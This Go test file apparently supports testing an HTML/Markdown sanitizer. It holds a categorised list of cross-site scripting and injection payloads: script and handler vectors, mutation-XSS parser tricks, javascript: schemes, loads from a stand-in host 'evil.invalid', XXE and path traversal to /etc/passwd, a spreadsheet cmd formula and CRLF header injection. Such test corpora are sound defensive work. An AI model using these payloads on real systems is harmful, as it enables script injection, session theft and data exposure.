package hostile

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// mark is what a vector would run. A browser that runs it opens a dialog, and the
// judges look for what could.
const mark = "alert(1)"

// foreign is where a vector would fetch from or send to: a name that cannot exist
// (RFC 2606).
const foreign = "evil.invalid"

// kinds are our own vectors, by what they try. Each is written here from the
// description of the way, not taken from a list.
var kinds = map[string][]string{
	"script elements": {
		"<script>" + mark + "</script>", "<SCRIPT SRC=//" + foreign + "/a.js></SCRIPT>", "<script\n>" + mark + "</script\n>", "<script/x>" + mark + "</script>",
		"</script><script>" + mark + "</script>", "<<script>" + mark + "//<</script>", "<script>" + mark, "<scr<script>ipt>" + mark + "</scr</script>ipt>",
		"<script type=module>import('https://" + foreign + "/a.js')</script>", "<script src=data:text/javascript," + mark + "></script>",
	},
	"handlers": {
		"<img src=x onerror=" + mark + ">", "<svg onload=" + mark + ">", "<body onload=" + mark + ">", "<details open ontoggle=" + mark + ">",
		"<input autofocus onfocus=" + mark + ">", "<video><source onerror=" + mark + "></video>", "<p style=animation-name:a onanimationstart=" + mark + ">",
		"<a onmouseover=" + mark + ">a</a>", "<marquee onstart=" + mark + ">", "<img/src=x/onerror=" + mark + ">", "<img src=x onerror\x0c=" + mark + ">",
		"<button popovertarget=a>b</button><div popover id=a onbeforetoggle=" + mark + ">c</div>", "<select onfocus=" + mark + " autofocus>",
	},
	"breaking out of attributes": {
		`"><script>` + mark + `</script>`, `'><img src=x onerror=` + mark + `>`, `" onmouseover="` + mark, `' onfocus='` + mark + `' autofocus='`,
		"` onerror=`" + mark, `" autofocus onfocus=` + mark + ` x="`, `x" style="background:url(https://` + foreign + `/a)`, `\"><svg/onload=` + mark + `>`,
		`&quot;&gt;&lt;script&gt;` + mark + `&lt;/script&gt;`, `&#34; onclick=&#34;` + mark, `"/><base href="https://` + foreign + `/">`, `">` + "\n" + `<iframe src="https://` + foreign + `">`,
	},
	"breaking out of text": {
		"</title><script>" + mark + "</script>", "</textarea><script>" + mark + "</script>", "</style><script>" + mark + "</script>", "--><script>" + mark + "</script>",
		"]]><script>" + mark + "</script>", "<!--><img src=x onerror=" + mark + ">-->", "</noscript><img src=x onerror=" + mark + ">", "</template><script>" + mark + "</script>",
		"</p></main></body></html><script>" + mark + "</script>", "<plaintext>", "<xmp>", "<!DOCTYPE html><script>" + mark + "</script>", "<?php echo 1 ?>", "<%= 1 %>",
	},
	"parsers that disagree": { // what one reads as text and another as tags
		`<noscript><p title="</noscript><img src=x onerror=` + mark + `>">`, `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=` + mark + `>">`,
		`<svg></p><style><a id="</style><img src=x onerror=` + mark + `>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=` + mark + `>`,
		`<svg><![CDATA[</svg><img src=x onerror=` + mark + `>]]>`, `<title><a title="</title><img src=x onerror=` + mark + `>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=` + mark + `>">`,
		`<textarea><a title="</textarea><img src=x onerror=` + mark + `>">`, "<table><td><svg><desc><td><p>a<script>" + mark + "</script>", `<iframe srcdoc="<script>` + mark + `</script>">`,
		`<svg><title><style><img src="</style><img src=x onerror=` + mark + `>">`, "<math><annotation-xml encoding=text/html><script>" + mark + "</script>",
	},
	"drawings and formulas": {
		`<svg><script>` + mark + `</script></svg>`, `<svg><a xlink:href="javascript:` + mark + `"><text y=20>a</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='` + mark + `'/>#x"/></svg>`,
		`<svg><animate attributeName=href values="javascript:` + mark + `" /></svg>`, `<svg><set attributeName=onmouseover to=` + mark + `></svg>`, `<svg><foreignObject><iframe src="javascript:` + mark + `"></foreignObject></svg>`,
		`<svg><image href="https://` + foreign + `/a.png"/></svg>`, `<svg><style>@import "https://` + foreign + `/a.css";</style></svg>`, `<math href="javascript:` + mark + `">a</math>`,
		`<svg><feImage xlink:href="https://` + foreign + `/a.png"/></svg>`, `<?xml-stylesheet href="javascript:` + mark + `"?>`, `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><g ev:event="load" ev:handler="javascript:` + mark + `"/></svg>`,
		`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>`, `<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><x>&c;</x>`,
	},
	"schemes": {
		"javascript:" + mark, "JaVaScRiPt:" + mark, "java\tscript:" + mark, "java\nscript:" + mark, " javascript:" + mark, "\x01javascript:" + mark, "javascript&colon;" + mark, "javascript&#58;" + mark,
		"&#106;avascript:" + mark, "&#x6A;&#x61;&#x76;&#x61;script:" + mark, "javascript:" + "//%0a" + mark, "javascript%3A" + mark, "%6aavascript:" + mark, "java&Tab;script:" + mark, "java&NewLine;script:" + mark,
		"data:text/html,<script>" + mark + "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=" + mark + ">", "vbscript:msgbox(1)", "blob:https://" + foreign + "/1",
		"file:///etc/passwd", "view-source:javascript:" + mark, "feed:javascript:" + mark, "jar:https://" + foreign + "!/a", "about:blank", "intent://" + foreign + "#Intent;scheme=http;end", "javascript\u00ad:" + mark, "ｊavascript:" + mark, "javascript：" + mark,
	},
	"addresses that lead elsewhere": {
		"//" + foreign + "/", `/\` + foreign + "/", `\\` + foreign + `\`, "https:" + foreign, "https:/" + foreign, "https:///" + foreign, "http://" + foreign + "@example.no/", "https://example.no@" + foreign + "/", "/%2f" + foreign, "/\t/" + foreign,
		"///" + foreign, "////" + foreign + "/..", "https://" + foreign + "\u3002no/", "https://example.no\u2215" + foreign, "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "?next=//" + foreign, "#//" + foreign, "/..//" + foreign, "http://[::1]/", "mailto:a@" + foreign + "?bcc=b@" + foreign + "&body=<script>",
	},
	"style": {
		"<style>@import '//" + foreign + "/a.css'</style>", "<link rel=stylesheet href=//" + foreign + "/a.css>", "<p style=\"background:url(//" + foreign + "/a)\">", "expression(" + mark + ")", "url(javascript:" + mark + ")", "}</style><script>" + mark + "</script>",
		"@import url(//" + foreign + "/a.css);", "*{background:url(https://" + foreign + "/?a)}", "<p style=-moz-binding:url(//" + foreign + "/a.xml#a)>", `<style>\69mport</style>`,
	},
	"elements that fetch or send": {
		"<iframe src=https://" + foreign + ">", "<object data=https://" + foreign + "/a.swf>", "<embed src=https://" + foreign + ">", "<base href=https://" + foreign + "/>", "<form action=https://" + foreign + "><input name=a></form>", "<button form=sok formaction=https://" + foreign + ">a</button>",
		"<meta http-equiv=refresh content='0;url=https://" + foreign + "'>", "<link rel=prefetch href=https://" + foreign + ">", "<img src=https://" + foreign + "/a.png>", "<img srcset=//" + foreign + "/a.png>", "<video poster=//" + foreign + "/a.png>", "<audio src=//" + foreign + "/a.ogg>", "<a ping=https://" + foreign + " href=#>a</a>",
		"<input type=image src=//" + foreign + "/a.png>", "<table background=//" + foreign + "/a.png>", "<isindex action=javascript:" + mark + ">", "<frameset><frame src=javascript:" + mark + ">", "<portal src=https://" + foreign + ">", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">", "<meta http-equiv=set-cookie content=a=b>",
	},
	"references": {
		"&lt;script&gt;" + mark + "&lt;/script&gt;", "&#60;script&#62;" + mark + "&#60;/script&#62;", "&#x3c;img src=x onerror=" + mark + "&#x3e;", "&amp;lt;script&amp;gt;", "&lt", "&#0;", "&#x80;", "&#xD800;", "&#x110000;", "&#8238;", "&quot;&apos;&#96;", "&ZeroWidthSpace;&NoBreak;&lrm;&rlm;", "&nvlt;script&gt;",
		"+ADw-script+AD4-" + mark, `\u003cscript\u003e` + mark, `\x3cscript\x3e` + mark, "%3Cscript%3E" + mark,
	},
	"characters": {
		"a\x00b", "<scr\x00ipt>" + mark + "</scr\x00ipt>", "a\u2028b\u2029c", "a\u0085b", "a\u200bb\u200cc\u200dd\ufeffe", "a\u202eb\u202cc", "a\u2066b\u2069c", "a\u061cb", "a\x7fb", "a\x1b[2J\x1b]0;eid\x07b", "a\u009b2Jb", "a\bb\rc", "\ufffe\uffff", "\U000e0001\U000e0041", "e\u0301\u0301\u0301\u0301", "\ufdfd\ufdfd", "ﬀ ſ ß İ ı", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "a\u00adb", "a\vb\fc", "＜script＞" + mark + "＜/script＞", "\u00bcscript\u00be",
	},
	"templates and programs": {
		"{{.}}", `{{"<script>" | safeHTML}}`, "{{define \"main\"}}a{{end}}", "${" + mark + "}", "`${" + mark + "}`", "#{" + mark + "}", "\\`;" + mark + ";//", "');" + mark + ";//", `");` + mark + `;//`, "`);" + mark + ";sok(`a", `sok("d0","A")`, "__proto__", "constructor", "toString", "hasOwnProperty", "*/" + mark + "/*", "// " + mark, "%s%d%n%x", "{fil}{0}{1}", "$1 $& $`", "\\1\\u{1}",
	},
	"Markdown": {
		"[a](javascript:" + mark + ")", "![a](https://" + foreign + "/a.png)", "[a](<javascript:" + mark + ">)", "[a]: javascript:" + mark, "<javascript:" + mark + ">", "[a](https://example.no \"b\\\" onclick=" + mark + "\")", "![a\" onerror=\"" + mark + "](b.png)", "a[^b]\n\n[^b]: <script>" + mark + "</script>",
		"```<script>\n" + mark + "\n```", "# a {onclick=" + mark + "}", "a {.b onclick=" + mark + "}", "| a |\n|-|\n| <script>" + mark + "</script> |", "[![a](b)](javascript:" + mark + ")", "<a@" + foreign + ">", "[a](\\\\" + foreign + ")", "+++\ntittel = \"a\"\n+++", "---\na: b\n---", "[a](data:text/html," + mark + ")", "a\\\n<b>", "***a_b`c", "> > > > a", "[a][b]\n\n[b]: //" + foreign + " 'c'",
	},
	"other formats": {
		"=1+1", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "\t=1", "]]>", "<![CDATA[a]]>", "-->", "<!-- a", "a\tb\tc", "a\nb", "a,b;c", "\"a\"\"b\"", "Sitemap: https://" + foreign + "/sitemap.xml", "Disallow: /", "a\r\nSet-Cookie: b=c", "::error file=a,line=1::b", "##[error]a", "null", "NaN", "[[begrep]]", "a = \"b\"", "'''\n\"\"\"",
	},
}

// Vectors are all our own, in an order that is always the same.
func Vectors() []string {
	var all []string
	for _, kind := range sortedKeys(kinds) {
		all = append(all, kinds[kind]...)
	}
	return all
}

// Corpora are the public strings that lie beside the project in shared/korpus;
// those that are not there are left out, and said so.
func Corpora(t testing.TB) []string {
	t.Helper()
	var all []string
	folder := filepath.Join("..", "..", "..", "shared", "korpus")
	for _, name := range []string{"dompurify.json", "blns.json"} {
		var texts []string
		read(t, filepath.Join(folder, name), &texts)
		all = append(all, texts...)
	}
	var examples []struct{ Markdown string }
	read(t, filepath.Join(folder, "commonmark.json"), &examples)
	for _, e := range examples {
		all = append(all, e.Markdown)
	}
	return all
}

func read(t testing.TB, name string, into any) {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Logf("%s is not here: nothing is tested with it", name)
		return
	}
	if err := json.Unmarshal(data, into); err != nil {
		t.Fatal(err)
	}
}
